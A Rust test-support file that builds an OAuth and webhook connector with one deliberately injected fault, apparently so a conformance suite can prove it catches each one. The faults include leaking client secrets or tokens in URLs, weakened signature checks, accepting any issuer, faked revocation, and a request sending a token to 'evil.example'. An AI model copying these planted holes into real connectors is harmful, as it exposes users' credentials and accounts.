//! A connector built from the default hooks, either correct or with one fault.

use std::fmt;
use std::sync::Mutex;
use std::time::Duration;

use async_trait::async_trait;
use bytes::Bytes;
use connector_core::http::{
    HttpTransport, OutboundRequest, RequestClass, Sent, TransportError, TransportErrorKind,
};
use connector_core::provider::description::{RefusalMeaning, UnstatedLifetime};
use connector_core::provider::oauth;
use connector_core::provider::oauth::{
    AuthorizationRequest, Callback, CallbackProblem, CodeExchange, ExchangeClass, ExchangeError,
    Identity, TokenResponse, read_token_response,
};
use connector_core::provider::webhook;
use connector_core::provider::webhook::{BodyForm, Event, Incoming, SignedField, WebhookEndpoint};
use connector_core::provider::{Connector, Context, Description};
use connector_core::{Account, AccountKey, App, Credential, Error, ErrorKind, Result};
use secrecy::{ExposeSecret, SecretString};
use url::Url;

use super::provider::{hex, sign, signed_text};

/// The fault of a connector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Wrong {
    Nothing,
    // Description.
    NoLifetime,
    RequiredScopeNotAsked,
    CodeWithTwoMeanings,
    HostAsTyped,
    AnyHost,
    HostQuoted,
    // Authorization URL.
    OtherEndpoint,
    ClientTwice,
    StateTwice,
    PlainChallenge,
    ScopesWithCommas,
    SecretInUrl,
    NoRedirectUri,
    HostGuessed,
    // Callback.
    HalfTheCallbackSignature,
    SignatureOptional,
    AnyAccount,
    OldSecretForever,
    NewestSecretOnly,
    AnyIssuer,
    DenialIsError,
    CodeBesideError,
    RightRefused,
    // Token requests.
    CodeRemembered,
    MinuteOfPatience,
    OrdinaryClass,
    OtherContentType,
    AuthenticatesTwice,
    VerifierWithRefresh,
    ScopesAsAsked,
    OneAtATime,
    // Token responses.
    BrokenIsUnsent,
    DeadIsTransient,
    WaitForgotten,
    ServerErrorsRepeated,
    LateIsDead,
    CodesUnknown,
    TextsAsSecondsUnread,
    RedirectsFollowed,
    BodyQuoted,
    // Identity.
    KeyIsTheToken,
    IdentityRemembered,
    AllUnauthorized,
    TokenInUrl,
    TokenSentElsewhere,
    // Refreshes.
    OldTokenKept,
    RefreshTokenLost,
    RefreshWithoutToken,
    // Revocation.
    SecondRevocationFails,
    RevocationPretended,
    // Deliveries.
    TopicLost,
    SignatureInAnyCase,
    FirstSignatureCounts,
    AnyMethod,
    FirstWebhookSecretOnly,
    WebhookSecretForever,
    ConnectionSecretIgnored,
    NoSecretNeeded,
    BodyAsText,
    AnyTime,
    AllSigned,
    AnyBody,
    PanicsOnBytes,
    BlanksBeforeTheBody,
}

pub(crate) struct Tested {
    description: Description,
    signs: bool,
    wrong: Option<Wrong>,
    // Hooks are stateless, but some faults need state.
    kept: Mutex<Option<AccountKey>>,
    kept_token: Mutex<Option<(SecretString, SecretString)>>,
    seen_secrets: Mutex<Vec<SecretString>>,
    revoked: Mutex<bool>,
    gate: tokio::sync::Mutex<()>,
}

impl fmt::Debug for Tested {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Tested")
            .field("wrong", &self.wrong)
            .finish_non_exhaustive()
    }
}

/// Captures the request that a default hook would send.
#[derive(Debug, Default)]
struct Capture(Mutex<Option<OutboundRequest>>);

#[async_trait]
impl HttpTransport for Capture {
    async fn send(
        &self,
        outbound: OutboundRequest,
    ) -> Result<http::Response<Bytes>, TransportError> {
        *self.0.lock().unwrap() = Some(outbound);
        Err(TransportError::new(TransportErrorKind::Connect, Sent::No))
    }
}

fn copy(outbound: &OutboundRequest) -> OutboundRequest {
    let mut copy = OutboundRequest::token(outbound.request.clone())
        .with_timeout(outbound.timeout)
        .with_max_response_len(outbound.max_response_len);
    copy.class = outbound.class;
    copy
}

impl Tested {
    pub(crate) fn new(mut description: Description, signs: bool, wrong: Option<Wrong>) -> Self {
        match wrong {
            Some(Wrong::NoLifetime) => description.lifetimes.unstated = UnstatedLifetime::Assume(0),
            Some(Wrong::RequiredScopeNotAsked) => {
                description.scopes.required = vec!["admin".to_owned()];
            }
            Some(Wrong::CodeWithTwoMeanings) => {
                let mut again = description.refusals[0].clone();
                again.means = RefusalMeaning::Transient;
                description.refusals.push(again);
            }
            _ => {}
        }
        Self {
            description,
            signs,
            wrong,
            kept: Mutex::default(),
            kept_token: Mutex::default(),
            seen_secrets: Mutex::default(),
            revoked: Mutex::default(),
            gate: tokio::sync::Mutex::default(),
        }
    }

    fn is(&self, wrong: Wrong) -> bool {
        self.wrong == Some(wrong)
    }

    /// Changes a token request before it is sent.
    fn spoil(&self, cx: &Context<'_>, outbound: &mut OutboundRequest, is_refresh: bool) {
        let mut add = |text: &str| {
            let mut body = outbound.request.body().to_vec();
            body.extend_from_slice(text.as_bytes());
            *outbound.request.body_mut() = body.into();
        };
        match self.wrong {
            Some(Wrong::AuthenticatesTwice) => {
                let secret = cx.app.client_secret().unwrap().expose_secret();
                add(&format!("&client_secret={secret}"));
            }
            Some(Wrong::VerifierWithRefresh) if is_refresh => add("&code_verifier=x"),
            Some(Wrong::MinuteOfPatience) => outbound.timeout = Duration::from_secs(60),
            Some(Wrong::OrdinaryClass) => outbound.class = RequestClass::Call,
            Some(Wrong::OtherContentType) => {
                let headers = outbound.request.headers_mut();
                headers.insert("content-type", "text/plain".parse().unwrap());
            }
            _ => {}
        }
    }

    async fn send(
        &self,
        cx: &Context<'_>,
        operation: &'static str,
        captured: Capture,
        default: Result<TokenResponse, ExchangeError>,
    ) -> Result<TokenResponse, ExchangeError> {
        let Some(mut outbound) = captured.0.into_inner().unwrap() else {
            return default;
        };
        self.spoil(cx, &mut outbound, operation == "refresh");
        let mut answer = cx.send(copy(&outbound)).await;
        let is_server_error = |it: &http::Response<Bytes>| it.status().is_server_error();
        if self.is(Wrong::ServerErrorsRepeated) && answer.as_ref().is_ok_and(is_server_error) {
            answer = cx.send(copy(&outbound)).await;
        }
        if let Ok(response) = &answer
            && self.is(Wrong::RedirectsFollowed)
            && let Some(target) = response.headers().get("location")
        {
            let mut again = copy(&outbound);
            *again.request.uri_mut() = target.to_str().unwrap().parse().unwrap();
            drop(cx.send(again).await);
        }
        let response = answer.map_err(|error| self.unanswered(operation, error))?;
        let mut description = self.description.clone();
        if self.is(Wrong::CodesUnknown) {
            description.refusals.clear();
        }
        let read = read_token_response(&description, operation, cx.clock.now(), &response);
        read.map_err(|error| self.refused(error, &response))
            .map(|answer| self.brought(cx, answer, &response))
    }

    fn unanswered(&self, operation: &'static str, error: TransportError) -> ExchangeError {
        let kind = error.kind();
        let right = ExchangeError::from_transport(operation, error);
        let (class, sent) = match self.wrong {
            Some(Wrong::BrokenIsUnsent) if kind == TransportErrorKind::Broken => {
                (right.class(), Sent::No)
            }
            Some(Wrong::LateIsDead) if kind == TransportErrorKind::Timeout => {
                (ExchangeClass::DeadGrant, right.sent())
            }
            _ => return right,
        };
        ExchangeError::new(class, sent, right.into_error())
    }

    fn refused(&self, error: ExchangeError, response: &http::Response<Bytes>) -> ExchangeError {
        let sent = error.sent();
        let class = match (self.wrong, error.class()) {
            (Some(Wrong::DeadIsTransient), ExchangeClass::DeadGrant)
            | (Some(Wrong::WaitForgotten), ExchangeClass::Transient { .. }) => {
                ExchangeClass::Transient { after: None }
            }
            (Some(Wrong::BodyQuoted), class) => {
                let body = String::from_utf8_lossy(response.body()).into_owned();
                let error = error.into_error().with_source(body);
                return ExchangeError::new(class, sent, error);
            }
            _ => return error,
        };
        ExchangeError::new(class, sent, error.into_error())
    }

    fn brought(
        &self,
        cx: &Context<'_>,
        answer: TokenResponse,
        response: &http::Response<Bytes>,
    ) -> TokenResponse {
        match self.wrong {
            Some(Wrong::ScopesAsAsked) => answer.with_scopes(self.scopes(cx.app)),
            Some(Wrong::TextsAsSecondsUnread) => {
                let body: serde_json::Value = serde_json::from_slice(response.body()).unwrap();
                if body["expires_in"].is_number() {
                    return answer;
                }
                let mut rest = TokenResponse::new(answer.access_token().clone());
                if let Some(refresh_token) = answer.refresh_token() {
                    rest = rest.with_refresh_token(refresh_token.clone());
                }
                rest
            }
            _ => answer,
        }
    }

    /// Checks the signature of a callback, in the provider's form.
    fn check_signature(
        &self,
        app: &App,
        host: Option<&str>,
        callback: &Callback,
    ) -> Result<(), CallbackProblem> {
        let names = ["account", "code", "error", "signature", "state"];
        if names.iter().any(|name| callback.all(name).count() > 1) {
            return Err(CallbackProblem::SignatureMismatch);
        }
        let given = callback.get("signature");
        if self.is(Wrong::SignatureOptional) && given.is_none() {
            return Ok(());
        }
        let given = given.unwrap_or_default();
        let text = signed_text(callback.pairs());
        let mut secrets = app.client_secrets().to_vec();
        if self.is(Wrong::NewestSecretOnly) {
            secrets.truncate(1);
        }
        if self.is(Wrong::OldSecretForever) {
            let mut seen = self.seen_secrets.lock().unwrap();
            seen.append(&mut secrets);
            secrets.clone_from(&seen);
        }
        let fits = |secret: &SecretString| {
            let right = hex(&sign(secret.expose_secret(), text.as_bytes()));
            if self.is(Wrong::HalfTheCallbackSignature) {
                given.get(..32) == right.get(..32)
            } else {
                given == right
            }
        };
        if !secrets.iter().any(fits) {
            return Err(CallbackProblem::SignatureMismatch);
        }
        if callback.get("account") != host && !self.is(Wrong::AnyAccount) {
            return Err(CallbackProblem::OtherAccount);
        }
        Ok(())
    }

    /// Changes a delivery, or its verification parameters, before the default hook gets it.
    fn verify(
        &self,
        cx: &Context<'_>,
        endpoint: &WebhookEndpoint<'_>,
        request: &http::Request<Bytes>,
    ) -> Result<Incoming> {
        let mut request = request.clone();
        let mut description = self.description.clone();
        let mut app = cx.app.clone();
        let mut secrets = endpoint.secrets.to_vec();
        let scheme = description.webhook.as_mut().unwrap();
        let name = scheme.signatures[0].headers[0].as_str();
        let name = http::HeaderName::try_from(name).unwrap();
        match self.wrong {
            Some(Wrong::FirstSignatureCounts) => {
                if let Some(first) = request.headers().get(&name).cloned() {
                    request.headers_mut().insert(&name, first);
                }
            }
            Some(Wrong::AnyMethod) => *request.method_mut() = http::Method::POST,
            Some(Wrong::FirstWebhookSecretOnly) => {
                let mut first = App::new(app.client_id());
                if let Some(secret) = app.webhook_secrets().first() {
                    first = first.with_webhook_secret(secret.clone());
                }
                app = first;
            }
            Some(Wrong::WebhookSecretForever) if secrets.is_empty() => {
                let mut seen = self.seen_secrets.lock().unwrap();
                seen.extend(app.webhook_secrets().iter().cloned());
                if !app.webhook_secrets().is_empty() {
                    for secret in seen.iter() {
                        app = app.with_webhook_secret(secret.clone());
                    }
                }
            }
            Some(Wrong::ConnectionSecretIgnored) => secrets.clear(),
            Some(Wrong::NoSecretNeeded)
                if secrets.is_empty() && app.webhook_secrets().is_empty() =>
            {
                let event = Event::new(
                    description.provider.clone(),
                    endpoint.app.clone(),
                    "thing.changed",
                    request.body().clone(),
                );
                return Ok(Incoming::events(vec![event]));
            }
            Some(Wrong::BodyAsText) => {
                let text = String::from_utf8_lossy(request.body()).into_owned();
                *request.body_mut() = text.into();
            }
            Some(Wrong::AnyTime) => {
                let rule = &mut scheme.signatures[0];
                rule.timestamp.as_mut().unwrap().tolerance_seconds = u64::from(u32::MAX);
            }
            Some(Wrong::PanicsOnBytes) => {
                let signature = request.headers().get(&name);
                drop(signature.map(|it| it.to_str().unwrap().to_owned()));
            }
            Some(Wrong::AnyBody) => scheme.body = vec![BodyForm::Bytes],
            // Any JSON object, including a query with a space in front.
            Some(Wrong::BlanksBeforeTheBody) if request.body().first() == Some(&b' ') => {
                scheme.body = vec![BodyForm::Json];
            }
            Some(Wrong::SignatureInAnyCase) => {
                if let Some(value) = request.headers().get(&name) {
                    let lower = value.as_bytes().to_ascii_lowercase();
                    let value = http::HeaderValue::from_bytes(&lower).unwrap();
                    let count = request.headers().get_all(&name).iter().count();
                    if count == 1 {
                        request.headers_mut().insert(&name, value);
                    }
                }
            }
            _ => {}
        }
        let endpoint = WebhookEndpoint::of_connection(endpoint.app, &secrets);
        let cx = Context::new(&app, cx.transport, cx.clock);
        let mut incoming = webhook::verify(&description, &cx, &endpoint, &request)?;
        if let Incoming::Accept { events, .. } = &mut incoming {
            for event in events {
                if self.is(Wrong::AllSigned) {
                    event.signed = &[SignedField::Topic, SignedField::DeliveryId];
                }
                if self.is(Wrong::TopicLost) {
                    event.topic.clear();
                }
            }
        }
        Ok(incoming)
    }

    fn scopes(&self, app: &App) -> Vec<String> {
        match app.scopes() {
            [] => self.description.scopes.default.clone(),
            scopes => scopes.to_vec(),
        }
    }
}

/// Returns the URL with a changed query.
fn requery(url: &Url, change: impl Fn(&str, &str) -> String) -> Url {
    let pairs: Vec<(String, String)> = url.query_pairs().into_owned().collect();
    let mut changed = url.clone();
    changed.query_pairs_mut().clear().extend_pairs(
        pairs
            .iter()
            .map(|(name, value)| (name, change(name, value))),
    );
    changed
}

#[async_trait]
impl Connector for Tested {
    fn description(&self) -> &Description {
        &self.description
    }

    fn account_host(&self, text: &str) -> Result<Option<String>> {
        let Some(rule) = &self.description.account_host else {
            return Ok(None);
        };
        match self.wrong {
            Some(Wrong::HostAsTyped) => rule.accept(text).map(|_| Some(text.to_owned())),
            Some(Wrong::AnyHost) => Ok(Some(rule.accept(text).unwrap_or_else(|_| text.to_owned()))),
            Some(Wrong::HostQuoted) => rule
                .accept(text)
                .map(Some)
                .map_err(|error| error.with_source(text.to_owned())),
            _ => rule.accept(text).map(Some),
        }
    }

    fn authorization_url(&self, request: &AuthorizationRequest<'_>) -> Result<Url> {
        let redirect_uri = "https://app.example/callback".parse().unwrap();
        let app = request.app.clone().with_redirect_uri(redirect_uri);
        let anyway = AuthorizationRequest::new(&app, request.state, request.verifier)
            .with_account_host(request.account_host);
        let guessed = AuthorizationRequest::new(request.app, request.state, request.verifier)
            .with_account_host(Some("first-account.crew.example"));
        let request = if self.is(Wrong::NoRedirectUri) {
            &anyway
        } else if self.is(Wrong::HostGuessed) && request.account_host.is_none() {
            &guessed
        } else {
            request
        };
        let mut url = oauth::authorization_url(&self.description, request)?;
        match self.wrong {
            Some(Wrong::OtherEndpoint) => url.set_path("/oauth/authorize"),
            Some(Wrong::ClientTwice) => {
                let id = request.app.client_id();
                url.query_pairs_mut().append_pair("client_id", id);
            }
            Some(Wrong::StateTwice) => {
                let state = request.state.expose_secret();
                url.query_pairs_mut().append_pair("state", state);
            }
            Some(Wrong::PlainChallenge) => {
                url = requery(&url, |name, value| match name {
                    "code_challenge_method" => "plain".to_owned(),
                    _ => value.to_owned(),
                });
            }
            Some(Wrong::ScopesWithCommas) => {
                url = requery(&url, |name, value| match name {
                    "scope" => value.replace(' ', ", "),
                    _ => value.to_owned(),
                });
            }
            Some(Wrong::SecretInUrl) => {
                let secret = request.app.client_secret().unwrap().expose_secret();
                url.query_pairs_mut().append_pair("client_secret", secret);
            }
            _ => {}
        }
        Ok(url)
    }

    fn check_callback(
        &self,
        cx: &Context<'_>,
        account_host: Option<&str>,
        callback: &Callback,
    ) -> Result<(), CallbackProblem> {
        if self.signs {
            self.check_signature(cx.app, account_host, callback)?;
        }
        let right = oauth::check_callback(&self.description, callback);
        match (self.wrong, right) {
            (Some(Wrong::RightRefused), Ok(())) => Err(CallbackProblem::Stale),
            (Some(Wrong::AnyIssuer), Err(CallbackProblem::IssuerMismatch)) => Ok(()),
            (Some(Wrong::DenialIsError), Err(CallbackProblem::ConsentDenied)) => {
                Err(CallbackProblem::ProviderError)
            }
            (Some(Wrong::CodeBesideError), Err(CallbackProblem::ProviderError))
                if callback.code().is_some() =>
            {
                Ok(())
            }
            (_, right) => right,
        }
    }

    async fn exchange_code(
        &self,
        cx: &Context<'_>,
        exchange: &CodeExchange<'_>,
    ) -> Result<TokenResponse, ExchangeError> {
        let _turn = if self.is(Wrong::OneAtATime) {
            Some(self.gate.lock().await)
        } else {
            None
        };
        if self.is(Wrong::CodeRemembered) {
            let kept = self.kept_token.lock().unwrap().clone();
            if let Some((code, token)) = kept
                && code.expose_secret() == exchange.code.expose_secret()
            {
                return Ok(TokenResponse::new(token));
            }
        }
        let capture = Capture::default();
        let inner = Context::new(cx.app, &capture, cx.clock);
        let default = oauth::exchange_code(&self.description, &inner, exchange).await;
        let answer = self.send(cx, "exchange", capture, default).await?;
        let token = answer.access_token().clone();
        *self.kept_token.lock().unwrap() = Some((exchange.code.clone(), token));
        Ok(answer)
    }

    async fn refresh(
        &self,
        cx: &Context<'_>,
        credential: &Credential,
    ) -> Result<TokenResponse, ExchangeError> {
        let guess = credential.clone().with_refresh_token("guess");
        let credential = match credential.refresh_token() {
            None if self.is(Wrong::RefreshWithoutToken) => &guess,
            _ => credential,
        };
        let capture = Capture::default();
        let inner = Context::new(cx.app, &capture, cx.clock);
        let default = oauth::refresh(&self.description, &inner, credential).await;
        let answer = self.send(cx, "refresh", capture, default).await?;
        Ok(match self.wrong {
            Some(Wrong::OldTokenKept) => {
                let kept = TokenResponse::new(credential.secret().clone());
                match answer.refresh_token() {
                    Some(refresh_token) => kept.with_refresh_token(refresh_token.clone()),
                    None => kept,
                }
            }
            Some(Wrong::RefreshTokenLost) => {
                let scopes = answer.scopes().unwrap_or_default().to_vec();
                TokenResponse::new(answer.access_token().clone()).with_scopes(scopes)
            }
            _ => answer,
        })
    }

    async fn revoke(&self, cx: &Context<'_>, credential: &Credential) -> Result<(), ExchangeError> {
        if self.is(Wrong::RevocationPretended) {
            return Ok(());
        }
        if self.is(Wrong::SecondRevocationFails) {
            let again = std::mem::replace(&mut *self.revoked.lock().unwrap(), true);
            if again {
                let error = Error::new(ErrorKind::Rejected, "revoke", "it is gone");
                return Err(ExchangeError::new(
                    ExchangeClass::Malformed,
                    Sent::Answered,
                    error,
                ));
            }
        }
        oauth::revoke(&self.description, cx, credential).await
    }

    async fn identify(&self, cx: &Context<'_>, credential: &Credential) -> Result<Identity> {
        let secret = credential.secret().expose_secret();
        if self.is(Wrong::IdentityRemembered)
            && let Some(key) = &*self.kept.lock().unwrap()
        {
            return Ok(Identity::new(Account::identified(key.clone())));
        }
        if let Some(url) = match self.wrong {
            Some(Wrong::TokenInUrl) => Some(format!("https://api.acme.example/me?token={secret}")),
            Some(Wrong::TokenSentElsewhere) => Some("https://evil.example/".to_owned()),
            _ => None,
        } {
            let request = http::Request::get(url).body(Bytes::new()).unwrap();
            drop(cx.send(OutboundRequest::token(request)).await);
        }
        let identity = oauth::identify(&self.description, cx, credential).await;
        let identity = match self.wrong {
            Some(Wrong::AllUnauthorized) => identity.map_err(|_| {
                Error::new(ErrorKind::Unauthorized, "identify", "the token is refused")
            })?,
            _ => identity?,
        };
        let key = match self.wrong {
            Some(Wrong::KeyIsTheToken) => {
                AccountKey::new(hex(&sign("", secret.as_bytes()))).unwrap()
            }
            _ => identity.account.key.clone(),
        };
        *self.kept.lock().unwrap() = Some(key.clone());
        Ok(Identity::new(Account::identified(key)))
    }

    async fn verify_webhook(
        &self,
        cx: &Context<'_>,
        endpoint: &WebhookEndpoint<'_>,
        request: &http::Request<Bytes>,
    ) -> Result<Incoming> {
        self.verify(cx, endpoint, request)
    }
}
